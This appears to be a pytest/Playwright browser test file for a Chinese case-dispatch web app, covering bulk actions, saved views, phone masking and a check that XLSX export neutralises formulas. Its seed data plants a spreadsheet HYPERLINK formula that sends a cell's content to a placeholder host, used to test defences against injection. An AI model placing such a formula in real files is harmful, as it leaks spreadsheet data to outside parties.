"""The desks of a community, a street and supervision: lists, bulk actions, files, saved views."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import openpyxl
import psycopg
import pytest
from playwright.sync_api import Locator, Page, expect

from tests.browser.axe import GUIDELINES, violations
from tests.browser.conftest import ARTEFACTS, LiveServer, Visitor, serve
from tests.browser.look import look

pytestmark = pytest.mark.browser
WITHIN_MS = 20_000
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"开")'
SPREAD = """
WITH here AS (
    SELECT u.area_codes[1] AS community FROM web.users u WHERE u.username = 'clerk'
), chosen AS (
    SELECT c.id, c.grid_code, c.grid_code ^@ h.community AS own,
           row_number() OVER (PARTITION BY c.grid_code ^@ h.community
                              ORDER BY c.reported_at DESC, c.id) AS n
    FROM dispatch.cases c CROSS JOIN here h
    WHERE c.state = 'closed' AND left(c.grid_code, 9) = left(h.community, 9)
), spread AS (
    SELECT id, grid_code, own, n,
           CASE WHEN own AND n <= 12 THEN 'reported'
                ELSE (ARRAY['pending', 'handled', 'verified', 'suspended', 'reported'])[1 + n %% 5]
           END AS state,
           left(grid_code, CASE WHEN NOT own AND n %% 4 = 0 THEN 9 ELSE 12 END) AS holder_code
    FROM chosen WHERE n <= CASE WHEN own THEN 26 ELSE 60 END
)
UPDATE dispatch.cases c SET
    state = s.state, holder_code = s.holder_code, held_since = now() - s.n * interval '3 hours',
    state_since = now() - s.n * interval '83 minutes',
    suspended_from = CASE WHEN s.state = 'suspended' THEN 'pending' END,
    closed_at = NULL, closing_note = NULL, closing_kind = NULL,
    hops = CASE WHEN s.n %% 6 = 0 THEN 1 + s.n %% 3 ELSE 0 END,
    card = CASE s.n %% 13 WHEN 4 THEN 'yellow' WHEN 9 THEN 'red' END,
    due_at = CASE WHEN s.state <> 'suspended' THEN now() + (s.n - 5) * interval '47 minutes' END,
    yellow_at = CASE WHEN s.state <> 'suspended' THEN now() + (s.n - 8) * interval '47 minutes' END,
    description = CASE WHEN s.own AND s.n = 3 THEN %(formula)s
                       WHEN s.own AND s.n = 2 THEN '楼道堆物，请联系13812345678'
                       ELSE c.description END
FROM spread s WHERE s.id = c.id
"""
"""Closed cases of a street go back to where a desk decides, due from hours ago to days ahead."""


@pytest.fixture(scope="module")
def live_server(
    clone: Callable[[str], str], demo_template: str, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[LiveServer]:
    """Serve a district with work on its desks; stands in for the server of the other modules."""
    for server in serve(clone(demo_template), tmp_path_factory.mktemp("desk-home")):
        with psycopg.connect(server.dsn) as conn:
            conn.execute(SPREAD, {"formula": FORMULA})
        yield server


def rows(page: Page) -> Locator:
    return page.locator("#rows tr")


def tab(page: Page, name: str) -> int:
    """Return the number on a tab."""
    text = page.locator(f'[data-tab="{name}"] b').inner_text()
    return int(text.replace(",", ""))


@pytest.mark.parametrize("locale", ["zh", "en"])
@pytest.mark.parametrize("username", ["clerk", "street.dispatcher", "supervisor"])
def test_each_desk_shows_its_cases_by_what_is_to_be_done(
    visit: Callable[..., Visitor], username: str, locale: str
) -> None:
    page = visit(username, locale=locale).open("/desk")
    first = "late" if username == "supervisor" else "accept"
    expect(page.locator(f'[data-tab="{first}"]')).to_have_attribute("aria-pressed", "true")
    expect(rows(page)).to_have_count(min(50, tab(page, first)))
    page.wait_for_url(f"**tab={first}**")
    look(page, f"desk-{username}-{locale}")
    for name in ("dispatch", "suspended", "verify", "close", "late", "carded", "returned", "stuck"):
        page.click(f'[data-tab="{name}"]')
        expect(page.locator("#list")).to_have_attribute("aria-busy", "false")
        count = tab(page, name)
        if count:
            expect(rows(page)).to_have_count(min(50, count))
        else:
            expect(page.locator("#list .empty")).to_be_visible()
    if username == "supervisor":
        expect(page.locator(".holder").first).to_be_visible()


def test_several_are_accepted_and_one_that_somebody_else_took_meanwhile_is_told(
    visit: Callable[..., Visitor],
) -> None:
    page = visit("clerk").open("/desk?tab=accept")
    before = tab(page, "accept")
    page.keyboard.press("j")
    page.keyboard.press("x")
    page.keyboard.press("j")
    page.keyboard.press("Shift+ArrowDown")
    page.keyboard.press("Shift+ArrowDown")
    chosen = page.locator('#rows tr[data-selected="true"]')
    expect(chosen).to_have_count(4)
    ids = [int(row.get_attribute("data-key") or 0) for row in chosen.all()]
    page.wait_for_url(f"**sel={','.join(map(str, ids))}**")
    expect(page.locator("#bulk")).to_contain_text("已选 4 件")
    accept = page.locator('#bulk [data-action="accept"]')
    expect(accept).to_be_visible(timeout=WITHIN_MS)

    act(visit("street.dispatcher"), ids[2], "accept")
    taken = page.locator(f'#rows tr[data-key="{ids[2]}"]')
    expect(taken).to_have_attribute("data-gone", "true", timeout=WITHIN_MS)
    expect(chosen).to_have_count(4)

    accept.click()
    form = page.get_by_role("dialog")
    expect(form).to_contain_text("受理 4 件")
    page.screenshot(path=ARTEFACTS / "desk-bulk-form.png")
    form.get_by_role("button", name="受理 4 件").click()
    expect(form.get_by_role("status")).to_have_text("受理：办成 3 件，未办 1 件", timeout=WITHIN_MS)
    refused = form.locator('.outcomes li[data-done="false"]')
    expect(refused).to_have_count(1)
    expect(refused).to_contain_text("已被别人先办")
    expect(refused.locator("a")).to_have_attribute("href", f"/cases/{ids[2]}")
    assert violations(page, GUIDELINES) == []
    page.screenshot(path=ARTEFACTS / "desk-bulk-result.png")
    form.get_by_role("button", name="关闭").click()
    expect(taken).to_have_count(0, timeout=WITHIN_MS)
    expect(page.locator('[data-tab="accept"] b')).to_have_text(str(before - 4), timeout=WITHIN_MS)
    expect(page.locator("#bulk")).to_be_hidden()


def test_what_the_loop_can_take_back_is_taken_back(visit: Callable[..., Visitor]) -> None:
    page = visit("street.dispatcher").open("/desk?tab=dispatch")
    waiting = tab(page, "dispatch")
    held = tab(page, "suspended")
    for number in (0, 1):
        rows(page).nth(number).locator("input").check()
    page.locator('#bulk [data-action="suspend"]').click(timeout=WITHIN_MS)
    page.fill("#need-reason", "等鉴定结论")
    page.screenshot(path=ARTEFACTS / "desk-suspend-form.png")
    form = page.get_by_role("dialog")
    form.get_by_role("button", name="挂账 2 件").click()
    expect(form.get_by_role("status")).to_contain_text("办成 2 件", timeout=WITHIN_MS)
    expect(page.locator('[data-tab="suspended"] b')).to_have_text(str(held + 2), timeout=WITHIN_MS)
    form.get_by_role("button", name="撤回：恢复").click()
    form.get_by_role("button", name="恢复 2 件").click()
    expect(form.get_by_role("status")).to_contain_text("恢复：办成 2 件", timeout=WITHIN_MS)
    form.get_by_role("button", name="关闭").click()
    expect(page.locator('[data-tab="dispatch"] b')).to_have_text(str(waiting), timeout=WITHIN_MS)


def test_a_list_that_is_read_again_keeps_the_selection(visit: Callable[..., Visitor]) -> None:
    page = visit("clerk").open("/desk?tab=accept")
    count = rows(page).count()
    page.locator("#rows tr").last.locator("input").check()
    kept = page.locator('#rows tr[data-selected="true"]').get_attribute("data-key")
    first = int(rows(page).first.get_attribute("data-key") or 0)
    act(visit("street.dispatcher"), first, "accept")
    expect(rows(page)).to_have_count(count - 1, timeout=WITHIN_MS)
    selected = page.locator('#rows tr[data-selected="true"]')
    expect(selected).to_have_count(1)
    expect(selected).to_have_attribute("data-key", kept or "")
    page.wait_for_url(f"**sel={kept}**")
    page.reload()
    page.wait_for_selector("html[data-ready]")
    expect(selected).to_have_attribute("data-key", kept or "")
    page.keyboard.press("Escape")
    expect(selected).to_have_count(0)
    page.keyboard.press("Control+a")
    expect(selected).to_have_count(count - 1)


def test_a_file_wants_a_purpose_and_holds_no_formula(
    visit: Callable[..., Visitor], live_server: LiveServer, tmp_path: Path
) -> None:
    page = visit("clerk").open("/desk?tab=open&held=all")
    total = tab(page, "open")
    page.keyboard.press("e")
    form = page.get_by_role("dialog")
    expect(form).to_contain_text(f"导出 {total} 件为 XLSX")
    assert violations(page, GUIDELINES) == []
    form.get_by_role("button", name="导出并记录").click()
    expect(form).to_be_visible()
    assert purposes(live_server) == []
    page.fill("#export-purpose", "社区周例会通报")
    page.screenshot(path=ARTEFACTS / "desk-export-form.png")
    with page.expect_download() as started:
        form.get_by_role("button", name="导出并记录").click()
    expect(page.locator(".toast")).to_contain_text(f"已导出 {total} 件")
    assert started.value.suggested_filename.startswith("案件-")
    path = tmp_path / "cases.xlsx"
    started.value.save_as(path)
    cells = [cell for row in openpyxl.load_workbook(path).worksheets[0].iter_rows() for cell in row]
    assert "f" not in {cell.data_type for cell in cells}
    said = [cell.value for cell in cells]
    assert FORMULA in said
    assert next(cell for cell in cells if cell.value == FORMULA).quotePrefix
    assert "楼道堆物，请联系138****5678" in said
    assert len([one for one in said if re.fullmatch(r"\d{6}-\d{8}-\d{6}", str(one))]) == total
    assert purposes(live_server) == [("社区周例会通报", total)]


def test_numbers_lead_to_rows_and_the_address_restores_the_view(
    visit: Callable[..., Visitor],
) -> None:
    visitor = visit("supervisor")
    page = visitor.open("/desk")
    holder = page.locator(".holder").first
    late = int(holder.locator("b").inner_text())
    name = holder.locator(".holder-name").evaluate("node => node.firstChild.textContent")
    holder.click()
    expect(rows(page)).to_have_count(late)
    for row in rows(page).all():
        expect(row.locator(".c-light .light")).to_have_attribute("data-light", "red")
        expect(row.locator(".c-holder")).to_contain_text(name)
    expect(page.locator("#filters")).to_contain_text(f"持有：{name}")
    page.locator('#filters [data-filter="family"]').select_option("hazard")
    page.wait_for_url("**family=hazard**")
    page.locator('[data-order="newest"]').click()
    page.wait_for_url("**order=newest**")
    expect(page.locator("#list")).to_have_attribute("aria-busy", "false")
    numbers = page.locator("#rows .c-number").all_inner_texts()
    again = visitor.open(page.url.removeprefix(visitor.server.url))
    expect(again.locator("#rows .c-number")).to_have_text(numbers)
    expect(again.locator('#filters [data-filter="family"]')).to_have_value("hazard")
    expect(again.locator("#filters")).to_contain_text(f"持有：{name}")


def test_a_supervisor_gives_cards_to_what_is_late(visit: Callable[..., Visitor]) -> None:
    page = visit("supervisor").open("/desk?tab=late")
    carded = tab(page, "carded")
    bare = page.locator("#rows tr", has=page.locator('.c-card[data-card=""]'))
    for number in (0, 1):
        bare.nth(number).locator("input").check()
    page.locator('#bulk [data-action="supervise"]').click(timeout=WITHIN_MS)
    page.locator("#need-colour").select_option("red")
    page.fill("#need-reason", "超期未办")
    form = page.get_by_role("dialog")
    form.get_by_role("button", name="挂牌督办 2 件").click()
    expect(form.get_by_role("status")).to_contain_text("办成 2 件", timeout=WITHIN_MS)
    form.get_by_role("button", name="关闭").click()
    expect(page.locator('[data-tab="carded"] b')).to_have_text(str(carded + 2), timeout=WITHIN_MS)
    expect(page.locator('#rows .c-card[data-card="red"]').first).to_contain_text("红牌")


def test_words_find_a_phone_that_is_not_shown_and_filters_are_kept(
    visit: Callable[..., Visitor],
) -> None:
    page = visit("clerk").open("/desk?tab=open")
    page.keyboard.press("/")
    page.keyboard.type("13812345678")
    expect(rows(page)).to_have_count(1, timeout=WITHIN_MS)
    expect(rows(page)).to_contain_text("138****5678")
    assert "13812345678" not in page.locator("#list").inner_text()
    page.locator("#saved summary").click()
    expect(page.locator(".saved")).to_contain_text("还没有")
    page.fill("#saved input", "堆物那件")
    page.keyboard.press("Enter")
    link = page.locator(".saved a")
    expect(link).to_have_text("堆物那件")
    page.screenshot(path=ARTEFACTS / "desk-saved.png")
    page.keyboard.press("Escape")
    page.fill("#work-search", "没有这样的案件")
    expect(page.locator("#list .empty")).to_contain_text("没有符合筛选条件的案件")
    page.screenshot(path=ARTEFACTS / "desk-empty.png")
    page.locator("#saved summary").click()
    link.click()
    page.wait_for_selector("html[data-ready]")
    expect(rows(page)).to_have_count(1, timeout=WITHIN_MS)
    other = visit("street.dispatcher").open("/desk")
    other.locator("#saved summary").click()
    expect(other.locator(".saved")).to_contain_text("还没有")


def test_an_empty_tab_says_where_there_is_something(visit: Callable[..., Visitor]) -> None:
    page = visit("clerk").open("/desk?tab=in_hand&family=recommendation")
    expect(page.locator("#list .empty")).to_be_visible()
    page.locator("#list .empty button", has_text="清除筛选").click()
    expect(page.locator("#filters .clear")).to_have_count(0)


def act(visitor: Visitor, case_id: int, action: str) -> None:
    """Take an action from another browser."""
    request, url = visitor.context.request, f"{visitor.server.url}/api/v1"
    version = request.get(f"{url}/cases/{case_id}").json()["version"]
    token = request.get(f"{url}/session").json()["csrf_token"]
    body: dict[str, Any] = {"action": action, "version": version}
    answer = request.post(
        f"{url}/cases/{case_id}/actions", data=body, headers={"X-CSRF-Token": token}
    )
    assert answer.ok, answer.text()


def purposes(server: LiveServer) -> list[tuple[str, int]]:
    with psycopg.connect(server.dsn) as conn:
        return conn.execute(
            "SELECT purpose, (facts->>'count')::integer FROM dispatch.purposes ORDER BY id"
        ).fetchall()
